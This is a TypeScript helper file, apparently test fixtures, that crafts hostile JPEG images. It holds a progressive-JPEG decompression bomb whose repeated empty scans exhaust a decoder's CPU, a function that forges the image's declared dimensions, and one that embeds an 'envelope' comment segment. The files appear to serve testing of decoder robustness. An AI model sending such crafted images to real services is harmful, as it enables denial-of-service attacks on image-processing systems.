/** Pictures that somebody sends who means no good. */

/** @returns a segment: its marker, its length, its bytes */
function segment(marker: number, body: readonly number[]): number[] {
  const length = body.length + 2;
  return [0xff, marker, length >> 8, length & 0xff, ...body];
}

const SIDE = 1400;
const BLOCKS = (SIDE / 8) ** 2;
/** EOB14, as the one code there is, which is the bit 0; 14 bits with the blocks beyond 16,384; a 1 to fill the byte. */
const ALL_EMPTY = ((BLOCKS - 16_384) << 1) | 1;

/**
 * A progressive JPEG (ITU T.81, annex G) of 1400x1400 pixels whose second scan comes again and again: each costs a
 * decoder a walk over all its blocks, and the sender 12 bytes.
 */
export function progressiveBomb(scans: number): Buffer {
  const header = [
    ...[0xff, 0xd8],
    ...segment(0xdb, [0, ...Array<number>(64).fill(1)]),
    ...segment(0xc2, [8, SIDE >> 8, SIDE & 0xff, SIDE >> 8, SIDE & 0xff, 1, 1, 0x11, 0]),
    ...segment(0xc4, [0x00, 1, ...Array<number>(15).fill(0), 0x00]),
    ...segment(0xc4, [0x10, 1, ...Array<number>(15).fill(0), 0xe0]),
  ];
  const flat = [...segment(0xda, [1, 1, 0x00, 0, 0, 0]), ...Array<number>(Math.ceil(BLOCKS / 8)).fill(0)];
  const empty = Buffer.from([...segment(0xda, [1, 1, 0x00, 1, 63, 0]), ALL_EMPTY >> 8, ALL_EMPTY & 0xff]);
  const repeated = Array<Buffer>(scans).fill(empty);
  return Buffer.concat([Buffer.from([...header, ...flat]), ...repeated, Buffer.from([0xff, 0xd9])]);
}

/** The same picture, whose header claims another size. */
export function claiming(jpeg: Uint8Array, width: number, height: number): Buffer {
  const bytes = Buffer.from(jpeg);
  const at = bytes.findIndex((byte, index) => byte === 0xff && [0xc0, 0xc1, 0xc2].includes(bytes[index + 1] ?? 0));
  bytes.writeUInt16BE(height, at + 5);
  bytes.writeUInt16BE(width, at + 7);
  return bytes;
}

/** The same picture with a comment that is to be an envelope. */
export function withComment(jpeg: Uint8Array, comment: string): Buffer {
  const body = [...Buffer.from(`beckon/1 ${comment}`)];
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from(segment(0xfe, body)), jpeg.subarray(2)]);
}
